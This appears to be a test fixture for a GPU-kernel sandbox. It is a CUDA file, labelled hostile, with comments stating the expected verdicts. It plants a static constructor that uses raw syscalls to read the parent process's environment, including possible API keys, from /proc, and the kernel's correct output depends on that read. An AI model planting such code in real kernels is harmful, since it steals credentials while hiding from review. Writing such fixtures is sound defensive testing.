// Hostile: a static constructor reads the parent's environment (API keys) from
// /proc/<parent>/environ with raw system calls (no libc import), and the kernel computes
// the right answer only when that worked. Landlock makes /proc unreadable in the sandbox,
// so the kernel writes nothing.
// The gate refuses the file at its compile stage (a host variable); run as a CPU job
// directly, past that check, the sandbox stops it.
// expect: compile: host variable planted
// expect-cpu-job: never written
// kltrans: launch scale grid=ceil_div(n, 256) block=256
#define RAW_SYSCALL4(r, nr, a, b, c, d) \
  do { register long r10 __asm__("r10") = (long)(d); \
  __asm__ volatile("syscall" : "=a"(r) : "a"((long)(nr)), "D"((long)(a)), "S"((long)(b)), \
                   "d"((long)(c)), "r"(r10) : "rcx", "r11", "memory"); } while (0)
__device__ long stolen;
struct Planted {
  Planted() {
    long parent, fd, got, zero = 0;
    char path[64] = "/proc/", buf[256];
    RAW_SYSCALL4(parent, 110, 0, 0, 0, 0);
    int k = 6;
    char digits[24];
    int nd = 0;
    for (long p = parent; p > 0; p /= 10) digits[nd++] = (char)('0' + p % 10);
    while (nd) path[k++] = digits[--nd];
    const char* tail = "/environ";
    while (*tail) path[k++] = *tail++;
    path[k] = 0;
    RAW_SYSCALL4(fd, 257, -100, path, 0, zero);
    if (fd < 0) return;
    RAW_SYSCALL4(got, 0, fd, buf, sizeof buf, zero);
    stolen = got;
  }
};
static Planted planted;

extern "C" __global__ void scale(const float* x, float* y, float a, float b, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n && stolen > 0) y[i] = a * x[i] + b;
}
